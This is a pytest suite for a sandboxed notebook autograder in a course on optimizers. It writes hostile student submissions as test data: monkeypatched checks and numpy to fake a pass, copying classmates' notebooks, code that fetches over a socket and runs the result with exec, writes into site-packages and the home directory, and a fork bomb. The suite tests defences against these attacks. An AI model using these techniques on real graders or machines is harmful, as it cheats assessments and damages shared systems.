"""Grading that cannot be fooled: hostile submissions, the sandbox, shards, skipped cells.

Every hostile submission below has a wrong (or missing) ``adam_step`` and tries to get
the mark anyway, or to harm the grader, the machine or its neighbours. They are graded
in one batch, two at a time, beside two honest submissions. Each must get its own row,
no mark for the exercise it cheated on, and leave nothing changed outside its sandbox;
the honest rows must be what they are alone.
"""

from __future__ import annotations

import concurrent.futures
import csv
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from assign_in_process import CORRECT_ADAM_STEP as CORRECT
from assign_in_process import run_assign

import optimizers
from optimizers.teaching import assign
from optimizers.teaching.assign import grading

ROOT = Path(__file__).resolve().parents[2]
CHAPTERS = ROOT / "chapters"
PACKAGE = Path(optimizers.__file__).resolve().parent
COLUMN = "Exercise 1 (adam-step)"

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap missing")


def rows_of(csv_file: Path) -> dict[str, dict[str, str]]:
    with csv_file.open(encoding="utf8") as f:
        return {row["submission"]: row for row in csv.DictReader(f)}


# the mistake "no bias correction" (finite, so a patched reference can agree with it)
WRONG = CORRECT.replace(" / (1 - beta1**t)", "").replace(" / (1 - beta2**t)", "")


@pytest.fixture(scope="module")
def student(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Adam assignment's student notebook."""
    out = tmp_path_factory.mktemp("handout")
    assign.write_notebooks("student", ["adam"], out, CHAPTERS, force=False)
    return out / "adam.ipynb"


def write(student: Path, target: Path, body: str, after: str = "", before: str = "") -> None:
    """A submission: ``body`` as adam_step's body, cells the student added around it."""
    nb = nbformat.read(student, as_version=4)
    at = next(
        i
        for i, c in enumerate(nb.cells)
        if c.metadata.get("optimizers", {}).get("role") == "answer"
    )
    answer = nb.cells[at]
    answer.source = answer.source.split("    raise NotImplementedError")[0] + body
    if after:
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(after))
    if before:
        nb.cells.insert(at, nbformat.v4.new_code_cell(before))
    nbformat.write(nb, target)


class Listener:
    """A TCP server on the test's own loopback that would hand out the right answer."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            self.connections += 1
            conn.sendall(CORRECT.encode())
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


def hostile(folder: Path, home: Path, port: int) -> dict[str, tuple[str, str, str]]:
    """name -> (body, cell after the answer, cell before it)."""
    neighbour = folder / "correct.ipynb"
    return {
        "patch_check": (
            WRONG,
            "import optimizers as opt\n"
            "from optimizers.teaching.checks import engine\n"
            "opt.checks.check_adam_step = lambda f: print('✓ adam_step is correct')\n"
            "engine.ExerciseCheck.judge = lambda self, cases, results: engine.Verdict(True, '✓')\n"
            "engine.ExerciseCheck.run_check = lambda self, fn: print('✓')\n",
            "",
        ),
        "patch_numpy": (
            WRONG,
            "np.allclose = lambda *a, **k: True\n"
            "np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(a, b).shape, bool)\n"
            "np.array_equal = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n",
            "",
        ),
        "patch_rule": (  # the package's Adam now agrees with the wrong answer
            WRONG,
            "import dataclasses\n"
            "def fake(self, params, grad, state):\n"
            "    theta, m, v = adam_step(params, grad, state.m, state.v, state.t + 1,\n"
            "                            self.lr, self.beta1, self.beta2, self.eps)\n"
            "    return theta, dataclasses.replace(state, m=m, v=v, t=state.t + 1)\n"
            "opt.Adam.step = fake\n"
            "opt.rules.Adam.step = fake\n",
            "",
        ),
        "patch_builtins": (
            WRONG,
            "import builtins, json\n"
            "builtins.isinstance = lambda obj, kind: True\n"
            "builtins.len = lambda x: 4\n"
            "json.dumps = lambda *a, **k: "
            '\'{"event": "end", "step": 3, "status": "ok", "results": ""}\'\n',
            "",
        ),
        "patch_serialisation": (
            WRONG,
            "from optimizers.teaching.checks import engine\n"
            "real = engine.dump\n"
            "engine.dump = lambda value, builds=True: real(('pass', True, '✓'), builds=False)\n",
            "",
        ),
        "read_neighbour": (  # copies the answer of a neighbour, or of the book
            "    raise NotImplementedError\n",
            "import glob, json\n"
            "for path in [*glob.glob('../*.ipynb'), *glob.glob('/tmp/*/*.ipynb'),\n"
            f"             {str(neighbour)!r}, {str(CHAPTERS / 'adam.ipynb')!r}]:\n"
            "    try:\n"
            "        nb = json.load(open(path))\n"
            "    except OSError:\n"
            "        continue\n"
            "    for cell in nb['cells']:\n"
            "        source = ''.join(cell['source'])\n"
            "        if source.startswith('def adam_step') and 'NotImpl' not in source:\n"
            "            exec(source)\n",
            "",
        ),
        "write_beside_package": (
            WRONG,
            "import pathlib, site\n"
            "import optimizers\n"
            "package = pathlib.Path(optimizers.__file__).parent\n"
            "targets = [package / 'pwned.py', package / 'teaching' / 'checks' / 'adam.py',\n"
            "           pathlib.Path(site.getsitepackages()[0]) / 'sitecustomize.py',\n"
            f"           pathlib.Path({str(folder)!r}) / 'pwned.txt']\n"
            "for target in targets:\n"
            "    try:\n"
            "        with open(target, 'a') as f:\n"
            "            f.write('\\n# PWNED\\n')\n"
            "    except OSError:\n"
            "        pass\n",
            "",
        ),
        "write_home": (
            WRONG,
            "import os, pathlib\n"
            f"for home in (os.path.expanduser('~'), {str(home)!r}):\n"
            "    try:\n"
            "        pathlib.Path(home, 'pwned.txt').write_text('PWNED')\n"
            "    except OSError:\n"
            "        pass\n",
            "",
        ),
        "socket": (
            "    raise NotImplementedError\n",
            "import socket\n"
            "try:\n"
            f"    body = socket.create_connection(('127.0.0.1', {port}), timeout=2).recv(99999)\n"
            "    exec('def adam_step(theta, grad, m, v, t, lr, beta1, beta2, eps):\\n'\n"
            "         + body.decode())\n"
            "except OSError:\n"
            "    pass\n",
            "",
        ),
        "fork_bomb": (  # bounded: 2,000 processes that sleep
            WRONG,
            "",
            "import os, time\n"
            "for i in range(2000):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(120)\n"
            "            os._exit(0)\n"
            "    except OSError:\n"
            "        break\n",
        ),
        "allocate_50_GB": (
            "    big = np.ones(50 * 2**30 // 8)\n" + CORRECT,
            "",
            "",
        ),
        "os_exit": (CORRECT, "import os\nos._exit(0)\n", ""),
        "ignores_the_time_limit": (  # the runner's alarm is ignored: the grader kills it
            CORRECT,
            "",
            "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass\n",
        ),
        "endless_printing": (CORRECT, "", "while True:\n    print('x' * 10000)\n"),
    }


HONEST = {"correct.ipynb": (1, "pass"), "wrong.ipynb": (0, "bias correction is missing")}
SAYS = {  # what a hostile row's exercise column or status says
    "read_neighbour": "not attempted",
    "socket": "not attempted",
    "allocate_50_GB": "MemoryError",
    "os_exit": "not run",
    "ignores_the_time_limit": "ran past its time limit (5 s) and was stopped",
    "endless_printing": "printed more than 1 MiB",
    "patch_serialisation": "could not be read",
}


@pytest.mark.parametrize("name", ["patch_check", "patch_numpy", "patch_rule"])
def test_these_patches_fool_a_check_run_in_the_students_process(name: str):
    """The attacks are real: the notebook's own check cell passes the wrong answer."""
    body, after, _ = hostile(Path("/nowhere"), Path("/nowhere"), 1)[name]
    code = (
        "import numpy as np\nimport optimizers as opt\n"
        "def adam_step(theta, grad, m, v, t, lr, beta1, beta2, eps):\n"
        f"{body}\n{after}\nopt.checks.check_adam_step(adam_step)\n"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert run.returncode == 0 and run.stdout.startswith("✓ adam_step is correct"), run.stderr


def _parent(pid: int) -> int:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return 0
    return int(stat.rsplit(")", 1)[1].split()[1])  # the field after the state


def _descends_from_this_test(pid: int) -> bool:
    # the grader runs in this process; its sandboxes are our descendants. (Another xdist
    # worker may be grading at the same time: its runners are not ours.)
    me = os.getpid()
    while pid > 1:
        pid = _parent(pid)
        if pid == me:
            return True
    return False


def runner_processes() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if b"optimizers.teaching.assign.runner" in cmdline and _descends_from_this_test(
                int(entry.name)
            ):
                found.append(int(entry.name))
    return found


@needs_bwrap
def test_hostile_submissions_get_no_marks_and_change_nothing(student: Path, tmp_path: Path):
    folder, home = tmp_path / "submissions", tmp_path / "home"
    folder.mkdir()
    home.mkdir()
    write(student, folder / "correct.ipynb", CORRECT)
    write(student, folder / "wrong.ipynb", WRONG)
    listener = Listener()
    try:
        attacks = hostile(folder, home, listener.port)
        for name, (body, after, before) in attacks.items():
            write(student, folder / f"{name}.ipynb", body, after, before)
        out = tmp_path / "grades.csv"
        done = run_assign(
            "grade", str(folder), "--out", str(out), "--jobs", "2", "--timeout", "5",
            "--max-output", "1", env={"HOME": str(home)},
        )  # fmt: skip
    finally:
        listener.close()
    assert done.returncode == 0, done.stderr
    rows = rows_of(out)
    assert set(rows) == {f"{n}.ipynb" for n in attacks} | set(HONEST)
    for name, (total, says) in HONEST.items():
        assert rows[name]["total"] == str(total) and says in rows[name][COLUMN], rows[name]
    for name in attacks:
        row = rows[f"{name}.ipynb"]
        assert row["total"] == "0" and row[COLUMN] != "pass", (name, row)
        assert row["sandbox"] == "bwrap"
        if name in SAYS:
            assert SAYS[name] in row[COLUMN] + row["status"], (name, row)
    # nothing outside the sandboxes changed
    assert listener.connections == 0
    assert list(home.iterdir()) == []
    assert not (PACKAGE / "pwned.py").exists() and not (folder / "pwned.txt").exists()
    assert not any(b"# PWNED" in p.read_bytes() for p in PACKAGE.rglob("*.py"))
    assert not any(
        Path(p, "sitecustomize.py").exists() for p in __import__("site").getsitepackages()
    )
    assert runner_processes() == [], "processes left behind"
    assert sorted(p.name for p in folder.iterdir()) == sorted(rows)


# ------------------------------------------------------------ flags, shards, modes


def test_an_answer_that_calls_the_rule_is_flagged_not_passed(student: Path, tmp_path: Path):
    folder = tmp_path / "s"
    folder.mkdir()
    write(
        student,
        folder / "calls_adam.ipynb",
        "    rule = opt.Adam(lr, beta1, beta2, eps)\n"
        "    state = rule.init(theta)\n"
        "    state.m, state.v, state.t = m.copy(), v.copy(), t - 1\n"
        "    theta, state = rule.step(theta, grad, state)\n"
        "    return theta, state.m, state.v\n",
    )
    write(  # hidden from a look at the source: the runner sees the call
        student,
        folder / "hides_adam.ipynb",
        "    rule = getattr(opt, 'Ad' + 'am')(lr, beta1, beta2, eps)\n"
        "    state = rule.init(theta)\n"
        "    state.m, state.v, state.t = m.copy(), v.copy(), t - 1\n"
        "    theta, state = rule.step(theta, grad, state)\n"
        "    return theta, state.m, state.v\n",
    )
    done = run_assign("grade", str(folder), "--out", str(tmp_path / "g.csv"), "--jobs", "2")
    assert done.returncode == 0, done.stderr
    for row in rows_of(tmp_path / "g.csv").values():
        assert row["total"] == "0" and row[COLUMN].startswith("flagged: "), row
        assert "Exercise 1: calls the package's own Adam" in row["flags"], row


def test_shards_merged_equal_one_run(student: Path, tmp_path: Path):
    folder = tmp_path / "s"
    folder.mkdir()
    for name, body in (("ann", CORRECT), ("bob", WRONG), ("cy", "    return theta\n")):
        write(student, folder / f"{name}.ipynb", body)
    whole = tmp_path / "whole.csv"
    assert run_assign("grade", str(folder), "--out", str(whole), "--jobs", "2").returncode == 0
    parts = []
    for k in (1, 2):
        part = tmp_path / f"part-{k}.csv"
        done = run_assign(
            "grade", str(folder), "--out", str(part), "--shard", f"{k}/2", "--jobs", "2"
        )
        assert done.returncode == 0, done.stderr
        parts.append(part)
    assert [len(rows_of(p)) for p in parts] == [2, 1]
    merged = tmp_path / "merged.csv"
    done = run_assign("merge", *map(str, parts), "--out", str(merged))
    assert done.returncode == 0, done.stderr
    assert merged.read_text(encoding="utf8") == whole.read_text(encoding="utf8")
    done = run_assign("merge", str(parts[0]), str(parts[0]), "--out", str(tmp_path / "x.csv"))
    assert done.returncode == 2 and "is in two parts" in done.stderr


def test_refuses_without_a_sandbox_unless_told(student: Path, tmp_path: Path):
    write(student, tmp_path / "ann.ipynb", CORRECT)
    empty = tmp_path / "bin"
    empty.mkdir()  # a PATH without bwrap
    done = run_assign("grade", str(tmp_path / "ann.ipynb"), "--out", str(tmp_path / "g.csv"),
                      env={"PATH": str(empty)})  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert "bubblewrap" in done.stderr and "--no-sandbox" in done.stderr, done.stderr
    done = run_assign("grade", str(tmp_path / "ann.ipynb"), "--out", str(tmp_path / "g.csv"),
                      "--no-sandbox", env={"PATH": str(empty)})  # fmt: skip
    assert done.returncode == 0, done.stderr
    row = rows_of(tmp_path / "g.csv")["ann.ipynb"]
    assert row["sandbox"] == "none" and row["total"] == "1"


# ---------------------------------------------------------------- skipped cells


def made_up_chapter(folder: Path) -> Path:
    """A chapter whose answer reads a name from an expository cell; another is slow."""
    cells = [
        nbformat.v4.new_code_cell("import numpy as np\n\nimport optimizers as opt"),
        nbformat.v4.new_code_cell("HALF = 0.5  # the answer reads this"),
        nbformat.v4.new_code_cell("import time\n\ntime.sleep(60)  # a slow figure"),
        nbformat.v4.new_markdown_cell("```{exercise} One step\n:label: tiny-step\n\nDo it.\n```"),
        nbformat.v4.new_markdown_cell("```{solution-start} tiny-step\n:class: dropdown\n```"),
        nbformat.v4.new_code_cell(
            "def gd_step(theta, grad, lr):\n"
            "    # BEGIN SOLUTION\n"
            "    return theta - (2 * HALF) * lr * grad\n"
            "    # END SOLUTION"
        ),
        nbformat.v4.new_markdown_cell("```{solution-end}\n```"),
        nbformat.v4.new_code_cell(
            "opt.checks.check_gd_step(gd_step)",
            metadata={"tags": ["exercise-check"], "exercise": "tiny-step"},
        ),
    ]
    path = folder / "tiny.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    return path


def test_expository_cells_are_skipped_unless_an_answer_needs_them(tmp_path: Path):
    chapters = tmp_path / "chapters"
    chapters.mkdir()
    chapter = assign.parse_chapter(made_up_chapter(chapters))
    solutions = assign.make_solutions(chapter, "test")
    tasks = grading.tasks_of(chapter.exercises)
    plan = grading.plan_submission(solutions, tasks)
    sources = [s.get("source", "") for s in plan.steps]
    assert any(s.startswith("HALF = 0.5") for s in sources)  # needed by the answer
    assert not any("time.sleep" in s for s in sources)  # not needed: skipped
    assert "import optimizers" not in "".join(
        sources
    )  # no answer reads opt (the check runs outside)
    assert [s["kind"] for s in plan.steps][-1] == "evaluate"
    everything = grading.plan_submission(solutions, tasks, all_cells=True).steps
    assert any("time.sleep" in s.get("source", "") for s in everything)
    assert any("import optimizers" in s.get("source", "") for s in everything)


@needs_bwrap
def test_honest_answers_of_every_chapter_pass_with_the_skipped_cells(tmp_path: Path):
    """Each chapter's own solutions, typed into its student notebook, pass with the
    default plan (setup, answers, the chapter cells they need), as they do in the book."""
    chapters = {p.stem: assign.parse_chapter(p) for p in sorted(CHAPTERS.glob("*.ipynb"))}
    chapters = {n: c for n, c in chapters.items() if any(ex.check for ex in c.exercises)}
    handout = tmp_path / "handout"
    assign.write_notebooks("student", list(chapters), handout, CHAPTERS, force=False)
    jobs = []
    for name, chapter in chapters.items():
        answers = [
            c.source for c, r in zip(chapter.nb.cells, chapter.roles, strict=True) if r == "answer"
        ]
        nb = nbformat.read(handout / f"{name}.ipynb", as_version=4)
        cells = [c for c in nb.cells if c.metadata.get("optimizers", {}).get("role") == "answer"]
        for cell, source in zip(cells, answers, strict=True):
            cell.source = source
        path = tmp_path / f"{name}.ipynb"
        nbformat.write(nb, path)
        jobs.append((name, path, grading.tasks_of(chapter.exercises)))
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        futures = [
            (name, len(tasks), pool.submit(grading.grade_submission, path, name, tasks, slot=i))
            for i, (name, path, tasks) in enumerate(jobs)
        ]
        for name, n_tasks, future in futures:
            grade = future.result()
            assert grade.total() == n_tasks and grade.status == "ok", (name, grade)


def test_runner_is_light_to_start():
    """The runner starts once per submission: it must not import nbformat (1.5 s here)."""
    run = subprocess.run(
        [
            sys.executable, "-I", "-c",
            "import sys, optimizers.teaching.assign.runner; print('nbformat' in sys.modules)",
        ],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert run.stdout.strip() == "False", run.stderr


def test_a_check_cell_must_be_one_call_of_a_registered_check():
    ex = assign.Exercise(1, "x-a", "A", "print(1)")
    with pytest.raises(assign.FormatError, match="must be one call"):
        grading.tasks_of([ex])
    ex = assign.Exercise(1, "x-a", "A", "opt.checks.check_no_such_thing(f)")
    with pytest.raises(assign.FormatError, match="must be one call"):
        grading.tasks_of([ex])
    (task,) = grading.tasks_of([assign.Exercise(1, "x-a", "A", "opt.checks.check_gd_step(f)")])
    assert task.check.name == "gd_step" and task.function == "f"
